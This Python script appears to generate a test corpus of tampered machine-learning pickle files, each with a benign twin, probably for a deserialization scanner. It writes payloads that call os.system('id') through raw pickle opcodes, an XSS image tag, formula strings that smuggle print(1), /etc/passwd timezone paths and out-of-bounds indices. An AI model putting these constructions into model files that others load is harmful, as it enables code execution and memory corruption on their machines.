"""Writes pickles of real models in which one attribute is another than a library puts there, each beside the model as it was.

    python make_hostile.py FOLDER

`FOLDER/hostile/NAME.pkl` opens files, calls what the file chooses or makes compiled code read beyond its memory, when it is loaded or when somebody uses it.
`FOLDER/benign/twin-NAME.pkl` is the same without that. Nothing here runs what it writes.
"""

import copy
import copyreg
import io
import pathlib
import pickle
import sys
import warnings

import joblib
import numpy as np
import pandas as pd
import scipy.sparse as sp
import statsmodels.formula.api as smf
from sklearn import cluster, ensemble, feature_extraction, linear_model, neighbors, neural_network, pipeline, preprocessing, svm, tree

warnings.filterwarnings("ignore")
X = np.random.RandomState(7).normal(size=(40, 3)).round(2)
Y = (X[:, 0] > 0).astype(int)
WORDS = ["a red apple", "a green pear", "the red pear"]


class Made:
    """An object as a pickle makes it: a call, and a state."""

    def __init__(self, call, args, state=None):
        self.parts = (call, args) if state is None else (call, args, state)


class Pickler(pickle.Pickler):
    changed = {}

    def reducer_override(self, thing):
        if isinstance(thing, Made):
            return thing.parts
        if id(thing) in self.changed:
            call, args, state = thing.__reduce__()[:3]
            return call, args, self.changed[id(thing)](state)
        return NotImplemented


def dumped(thing, changed=None):
    out = io.BytesIO()
    pickler = Pickler(out, 4)
    pickler.changed = changed or {}
    pickler.dump(thing)
    return out.getvalue()


def made(kind, state):
    return Made(copyreg._reconstructor, (kind, object, None), state)


def pair(model, **attributes):
    """A model, and one that has these attributes too."""
    other = copy.copy(model)
    for name, value in attributes.items():
        other.__dict__[name] = value
    return dumped(other), dumped(model)


def inside(model, part, change):
    """A model, and one in which the state of a part is changed."""
    def changed(state):
        state = copy.deepcopy(state)
        return change(state) or state
    return dumped(model, {id(part): changed}), dumped(model)


def renamed(records, *names):
    """The same memory under other names."""
    return records.view(np.dtype([(name, records.dtype[place]) for place, name in enumerate(names)]))


def put(*path, to):
    """Sets what lies at the end of a path."""
    def change(state):
        *before, last = path
        for key in before:
            state = state[key]
        state[last] = to
    return change


def models():
    line = linear_model.LinearRegression().fit(X, Y)
    yield "method_as_attribute", pair(line, predict=np.log1p)
    yield "unknown_attribute", pair(line, extra=1)
    yield "documentation_link", pair(line, _doc_link_template='"><img src=x onerror=alert(1)>')
    yield "representation", pair(line, _repr_html_=np.log1p)
    stack = ensemble.StackingClassifier([("a", tree.DecisionTreeClassifier(max_depth=1))], cv=2).fit(X, Y)
    yield "array_for_estimator", pair(stack, estimators_=[np.array([b"#"])])
    yield "method_by_name", pair(stack, stack_method_=["tofile"])
    yield "results_for_estimator", pair(stack, final_estimator_=smf.ols("y ~ x", pd.DataFrame({"x": X[:, 0], "y": Y})).fit())
    function = preprocessing.FunctionTransformer(np.sum, validate=True).fit(X)
    yield "arguments_of_functions", pair(function, kw_args={"dtype": "O", "initial": "/tmp/x"})
    yield "text_for_functions", pair(function, kw_args={"axis": "/tmp/x"})
    steps = pipeline.Pipeline([("scale", preprocessing.StandardScaler()), ("model", linear_model.LogisticRegression())]).fit(X, Y)
    yield "folder", pair(steps, memory="/tmp/x")
    yield "frame_for_step", pair(steps, steps=[("model", pd.DataFrame({"a": [1.0]}))])
    words = feature_extraction.text.CountVectorizer().fit(WORDS)
    yield "file_for_text", pair(words, input="filename")
    yield "codec", pair(words, encoding="unicode_escape")
    yield "place_of_word", pair(words, vocabulary_={**words.vocabulary_, "apple": 1 << 30})
    from sklearn.model_selection import GridSearchCV
    search = GridSearchCV(steps, {"model__C": [0.1, 1.0]}, cv=2).fit(X, Y)
    yield "folder_in_search", pair(search, param_grid={"memory": ["/tmp/x"]})
    yield "array_for_best", pair(search, best_estimator_=X)
    leaf = tree.DecisionTreeRegressor(max_depth=2).fit(X, Y)
    yield "tree_loop", inside(leaf, leaf.tree_, put("nodes", "left_child", to=0))
    yield "tree_column", inside(leaf, leaf.tree_, put("nodes", "feature", to=1 << 34))
    yield "tree_count", inside(leaf, leaf.tree_, put("node_count", to=1000))
    yield "tree_columns", pair(leaf, n_features_in_=1)
    forest = ensemble.RandomForestRegressor(2, max_depth=1).fit(X, Y)
    yield "forest_columns", pair(forest, n_features_in_=1)
    boost = ensemble.GradientBoostingClassifier(n_estimators=2, max_depth=1).fit(X, np.arange(40) % 3)
    yield "boosting_width", pair(boost, n_classes_=2)
    yield "boosting_none", pair(boost, estimators_=np.array([[linear_model.Ridge()]], dtype=object))
    isolation = ensemble.IsolationForest(n_estimators=2, max_samples=8, max_features=2).fit(X)
    yield "isolation_columns", pair(isolation, estimators_features_=[np.array([0])] * 2)
    histogram = ensemble.HistGradientBoostingRegressor(max_iter=1, min_samples_leaf=5).fit(X, Y)
    nodes = histogram._predictors[0][0]
    for name, field, value in (("column", "feature_idx", 1 << 20), ("child", "left", 0), ("category", "is_categorical", 1)):
        wrong = copy.deepcopy(histogram)
        wrong._predictors[0][0].nodes[field] = value
        yield f"histogram_{name}", (dumped(wrong), dumped(histogram))
    vectors = svm.SVC().fit(X, Y)
    yield "support_counts", pair(vectors, _n_support=np.array([1 << 20, 1], dtype="i4"))
    yield "support_coefficients", pair(vectors, _dual_coef_=vectors._dual_coef_[:, :1])
    yield "support_lines", pair(vectors, _intercept_=np.zeros(0))
    means = cluster.KMeans(2, n_init=1).fit(X)
    yield "centres", pair(means, cluster_centers_=means.cluster_centers_[:, :1])
    near = neighbors.KNeighborsClassifier(algorithm="kd_tree", leaf_size=5).fit(X, Y)
    def reorder(state):
        order = np.array(state[1])
        order[0] = 1 << 40
        return (state[0], order, *state[2:])
    yield "neighbours", inside(near, near._tree, reorder)
    brute = neighbors.KNeighborsClassifier(algorithm="brute").fit(X, Y)
    yield "neighbour_columns", pair(brute, n_features_in_=30)
    yield "neighbour_labels", pair(brute, _y=np.full(40, 99))
    spline = preprocessing.SplineTransformer(n_knots=3).fit(X)
    wrong = copy.deepcopy(spline)
    wrong.bsplines_[0].__dict__["c"] = np.zeros((1, 4))
    yield "spline", (dumped(wrong), dumped(spline))
    for name, change in (("indices", lambda m: m.indices.fill(99)), ("begins", lambda m: m.indptr.__setitem__(1, 99)), ("shape", lambda m: m.__dict__.update(_shape=(3, 1)))):
        matrix = sp.csr_matrix(np.eye(3))
        wrong = matrix.copy()
        change(wrong)
        yield f"sparse_{name}", (dumped(wrong), dumped(matrix))
    matrix = sp.coo_matrix(np.eye(3))
    wrong = matrix.copy()
    wrong.coords = (np.array([0, 1, 99], dtype="i4"), wrong.coords[1])
    yield "sparse_coordinates", (dumped(wrong), dumped(matrix))
    numbers = np.random.RandomState(1)
    state = numbers.get_state(legacy=False)
    wild = copy.deepcopy(state)
    wild["state"]["pos"] = 1 << 20
    call, args, _ = numbers.__reduce__()
    yield "random_place", (dumped(Made(np.random.RandomState().__reduce__()[0], ("MT19937",), wild)), dumped(Made(call, ("MT19937",), state)))
    net = neural_network.MLPClassifier((2,), max_iter=3).fit(X, Y)
    yield "function_for_text", pair(net, activation=np.log1p)


def numbers():
    """What compiled code of other classes takes for granted, and what counts, sizes or divides."""
    from collections import OrderedDict
    words = feature_extraction.text.CountVectorizer().fit(WORDS)
    yield "words_in_order", pair(words, vocabulary_=OrderedDict((word, 1 << 30) for word in words.vocabulary_))
    yield "words_of_one_place", pair(words, vocabulary_=dict.fromkeys(words.vocabulary_, 0))
    yield "pattern", pair(words, token_pattern=r"(\w+\s?)*!")
    kinds = np.array([["a"], ["b"], ["b"], ["c"]])
    hot = preprocessing.OneHotEncoder().fit(kinds)
    yield "categories_width", pair(hot, _n_features_outs=[1])
    yield "categories_order", pair(preprocessing.OneHotEncoder().fit([[1.0], [2.0], [3.0]]), categories_=[np.array([3.0, 1.0, 2.0])])
    yield "categories_dropped", pair(preprocessing.OneHotEncoder(drop="first").fit(kinds), _drop_idx_after_grouping=np.array([-9], dtype=object))
    rare = preprocessing.OneHotEncoder(min_frequency=2, handle_unknown="infrequent_if_exist").fit(kinds)
    yield "categories_grouped", pair(rare, _default_to_infrequent_mappings=[np.array([99, 0, 1])])
    bins = preprocessing.KBinsDiscretizer(3).fit(X)
    wrong = copy.deepcopy(bins)
    wrong._encoder._n_features_outs = [1, 1, 1]
    yield "bins", (dumped(wrong), dumped(bins))
    labels = preprocessing.MultiLabelBinarizer().fit([("a", "b"), ("c",)])
    yield "labels_twice", pair(labels, classes_=np.array(["a", "a", "c"], dtype=object))
    yield "support_chances", pair(svm.SVC().fit(sp.csr_matrix(X), Y), probability=True)
    line = svm.SVR().fit(X, Y)
    yield "regression_places", pair(line, support_=line.support_ + 1000)
    yield "regression_coefficients", pair(line, _dual_coef_=line._dual_coef_[:, :1])
    yield "one_class_counts", pair(svm.OneClassSVM().fit(X), _n_support=np.full(9, 5, dtype="i4"))
    brute = neighbors.KNeighborsClassifier(algorithm="brute").fit(X, Y)
    yield "neighbour_fewer_labels", pair(brute, _y=brute._y[:3])
    yield "neighbour_classes", pair(brute, classes_=np.array([[0], [1]]))
    tied = neighbors.KNeighborsTransformer(algorithm="kd_tree").fit(X)
    yield "neighbour_tree", pair(tied, _tree=neighbors.KDTree(np.vstack([X, X])))
    near = neighbors.KDTree(X)
    def bounds(state):
        return (*state[:3], np.ascontiguousarray(state[3][:1]), *state[4:])
    def fields(state):
        # What is called a leaf is the end.
        return (*state[:2], renamed(state[2], "idx_start", "is_leaf", "idx_end", "radius"), *state[3:])
    yield "neighbour_bounds", inside(near, near, bounds)
    yield "neighbour_fields", inside(near, near, fields)
    weighed = neighbors.BallTree(X, metric="minkowski", p=3)
    distance = weighed.__getstate__()[11]
    yield "distance_weights", inside(weighed, distance, lambda state: (state[0], np.ones(1), state[2]))
    birch = cluster.Birch(n_clusters=2).fit(X)
    yield "cluster_norms", pair(birch, _subcluster_norms=birch._subcluster_norms[:1])
    yield "cluster_threads", pair(cluster.KMeans(2, n_init=1).fit(X), _n_threads=-5)
    yield "cluster_columns", pair(cluster.FeatureAgglomeration(2).fit(X), labels_=np.array([0, 1, 1 << 40]))
    links = cluster.HDBSCAN().fit(X)
    yield "cluster_links", pair(links, _single_linkage_tree_=renamed(links._single_linkage_tree_, "left_node", "cluster_size", "value", "right_node"))
    halves = cluster.BisectingKMeans(3).fit(X)
    wrong = copy.deepcopy(halves)
    wrong._bisecting_tree.right = wrong._bisecting_tree.left = wrong._bisecting_tree
    yield "cluster_halves", (dumped(wrong), dumped(halves))
    leaf = tree.DecisionTreeRegressor(max_depth=3).fit(X, X[:, 1])
    yield "tree_depth", inside(leaf, leaf.tree_, put("max_depth", to=0))
    def joined(state):
        state["nodes"]["right_child"][0] = state["nodes"]["left_child"][0]
    yield "tree_joined", inside(leaf, leaf.tree_, joined)
    boost = ensemble.GradientBoostingRegressor(n_estimators=2, max_depth=1).fit(X, Y)
    begin = copy.copy(boost.init_)
    begin.n_outputs_ = 0
    yield "boosting_begin", pair(boost, init_=begin)
    yield "boosting_zero", pair(ensemble.GradientBoostingRegressor(init="zero", n_estimators=2, max_depth=1).fit(X, Y), n_trees_per_iteration_=0)
    yield "hashes", pair(feature_extraction.FeatureHasher(16), n_features=0)
    yield "processes", pair(linear_model.LogisticRegression().fit(X, Y), n_jobs=10**9)
    yield "products", pair(preprocessing.PolynomialFeatures(2).fit(X), _max_degree=10**9)
    spline = preprocessing.SplineTransformer(n_knots=3).fit(X)
    wrong = copy.deepcopy(spline)
    curve = wrong.bsplines_[0]
    curve.__dict__["t" if "t" in curve.__dict__ else "_t"] = np.zeros((20, 1))
    yield "spline_knots", (dumped(wrong), dumped(spline))
    matrix = sp.csr_matrix(np.eye(3))
    wrong = matrix.copy()
    wrong.__dict__["indices"] = wrong.indices.reshape(1, 3)
    yield "sparse_dimensions", (dumped(wrong), dumped(matrix))
    bands = sp.dia_matrix(np.eye(3))
    wrong = bands.copy()
    wrong.__dict__["offsets"] = np.array([0, 1, 2], dtype="i4")
    yield "sparse_diagonals", (dumped(wrong), dumped(bands))
    numbers = np.random.RandomState(1)
    call, args, _ = numbers.__reduce__()
    name, key, place, has, gauss = numbers.get_state()
    yield "random_tuple", (dumped(Made(call, ("MT19937",), (name, key, 10**6, has, gauss))), dumped(Made(call, ("MT19937",), (name, key, place, has, gauss))))
    blocks = np.random.Philox(1)
    call, args, _ = blocks.__reduce__()
    wild = {**blocks.state, "buffer_pos": 99}
    yield "random_buffer", (dumped(Made(call, args, (wild, None))), dumped(Made(call, args, (blocks.state, None))))


def indexes():
    from pandas._libs.sparse import IntIndex
    from pandas.core.indexes.base import _new_Index
    levels = [pd.Index([1, 2]), pd.Index([3, 4])]
    def index(codes):
        return dumped(Made(_new_Index, (pd.MultiIndex, {"levels": levels, "codes": codes, "sortorder": None, "names": [None, None]})))
    yield "codes_of_index", (index([np.array([0, 99], "i1"), np.array([0, 1], "i1")]), index([np.array([0, -1], "i1"), np.array([0, 1], "i1")]))
    yield "codes_of_fewer", (index([np.array([0, 1], "i1"), np.array([0], "i1")]), index([np.array([0, 1], "i1"), np.array([0, 0], "i1")]))
    kinds = pd.Categorical(["a", "b"])
    call, args, state = kinds.__reduce__()
    yield "codes_of_categories", (dumped(Made(call, args, (state[0], np.array([0, 99], "i1"), *state[2:]))), dumped(kinds))
    table = pd.arrays.SparseArray([0.0, 0.0, 1.0], fill_value=0.0)
    def sparse(*args):
        return dumped(made(pd.arrays.SparseArray, {"_sparse_index": Made(IntIndex, args), "_sparse_values": np.ones(1), "_dtype": table.dtype}))
    yield "codes_of_sparse", (sparse(3, np.array([99], "i4"), False), sparse(3, np.array([2], "i4")))
    column = pd.Series([1.0, 2.0])
    manager = column._mgr
    def series(index):
        state = list(manager.__getstate__())
        form = state[3]["0.14.1"]
        state[3] = {"0.14.1": {**form, "axes": [index]}}
        return dumped(made(pd.Series, {"_mgr": made(type(manager), tuple(state)), "_typ": "series", "_metadata": ["_name"], "attrs": {}, "_flags": {"allows_duplicate_labels": True}, "_name": None}))
    yield "rows_of_fewer", (series(pd.Index(range(100, 0, -1))), series(pd.Index([2, 1])))
    whole = pd.array([1, 2, 3], dtype="Int64")
    yield "mask_of_fewer", pair(whole, _mask=np.array([False]))


def shown():
    frame = pd.DataFrame({"<img src=x onerror=alert(1)>": X[:, 0], "x": X[:, 1]})
    import statsmodels.api as sm
    marked, plain = (sm.OLS(Y, frame[[name]]).fit() for name in frame)
    yield "markup", (dumped(marked), dumped(plain))


def results():
    from statsmodels.base.data import PandasData
    frame = pd.DataFrame({"x": X[:, 0], "y": Y})
    fitted = smf.ols("y ~ x", frame).fit()
    def data(formula):
        return dumped(made(PandasData, {"restore_design_info": True, "formula": formula, "frame": frame, "orig_endog": None}))
    hidden = 'y ~ C("""a""" """ and print(1) and """ """)'
    yield "formula_in_quotes", (data(hidden), data("y ~ x + C(x > 0)"))
    yield "formula_in_brackets", (data("y ~ x[print(1)]"), data("y ~ I(x ** 2)"))
    yield "formula_with_string", (data("y ~ 'a' 'b'"), data('y ~ Q("x")'))
    for name, attribute in (("design", "design_info"), ("specification", "model_spec")):
        other = copy.copy(fitted._results)
        other.model = copy.copy(other.model)
        state = {**{key: value for key, value in fitted.model.__dict__.items() if key in ("k_constant", "endog_names")}, attribute: "0 + I(print(1))"}
        other.__dict__["model"] = made(type(fitted.model), state)
        yield f"{name}_as_text", (dumped(other), dumped(fitted._results))


def tables():
    from pandas._libs.tslibs.timestamps import _unpickle_timestamp
    from pandas.core.indexes.datetimes import _new_DatetimeIndex
    zone = np.str_("dateutil//etc/passwd")
    yield "zone_of_stamp", (dumped(Made(_unpickle_timestamp, (10**18, None, zone, 10))), dumped(pd.Timestamp(10**18)))
    times = np.array([0], dtype="M8[ns]")
    yield "zone_of_index", (dumped(Made(_new_DatetimeIndex, (pd.DatetimeIndex, {"data": times, "tz": zone, "freq": None}))), dumped(pd.DatetimeIndex(times)))
    yield "zone_in_kind", (dumped(Made(_new_DatetimeIndex, (pd.DatetimeIndex, {"data": times, "dtype": "datetime64[ns, dateutil//etc/passwd]"}))), dumped(pd.DatetimeIndex(times, name="at")))
    frame = pd.DataFrame({"a": [1.0]})
    other = copy.copy(frame)
    state = frame.__getstate__()
    other_manager = Made(type(frame._mgr), (frame._mgr.blocks, [frame.index[:0], frame.index]))
    manager = Made(type(frame._mgr), (frame._mgr.blocks, list(frame._mgr.axes)))
    yield "columns_of_table", (dumped(made(pd.DataFrame, {**state, "_mgr": other_manager})), dumped(made(pd.DataFrame, {**state, "_mgr": manager})))
    yield "attribute_of_table", (dumped(made(pd.DataFrame, {**state, "to_csv": np.log1p})), dumped(frame))


def arrays():
    """Arrays whose bytes an older joblib reads elsewhere."""
    for more in range(16):
        thing = ["x" * more, "id", np.full(64, 7, np.uint8)]
        out = io.BytesIO()
        joblib.dump(thing, out, protocol=3)
        content = out.getvalue()
        at = content.index(bytes([7] * 64))
        if content[at - 15] == 14:
            call = b"cos\nsystem\nh\x01\x85R"
            yield "older_joblib", (content[: at + 64 - len(call)] + call + content[at + 64 :], content)
            short = content[: at - 15] + bytes([13]) + b"\xff" * 13 + content[at:]
            yield "padding", (short, content)


def main():
    folder = pathlib.Path(sys.argv[1])
    for part, ending in ((models(), "pkl"), (numbers(), "pkl"), (indexes(), "pkl"), (shown(), "pkl"), (results(), "pkl"), (tables(), "pkl"), (arrays(), "joblib")):
        for name, (hostile, twin) in part:
            (folder / "hostile" / f"{name}.{ending}").write_bytes(hostile)
            (folder / "benign" / f"twin-{name}.{ending}").write_bytes(twin)
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n"
    for name, inner in (("objects", b"cos\nsystem\n(X\x02\0\0\0idtR."), ("objects_plain", pickle.dumps([1], 4))):
        array = b"\x93NUMPY\x01\0" + len(header).to_bytes(2, "little") + header + inner
        (folder / "hostile" / f"{name}.npy").write_bytes(array)


if __name__ == "__main__":
    main()
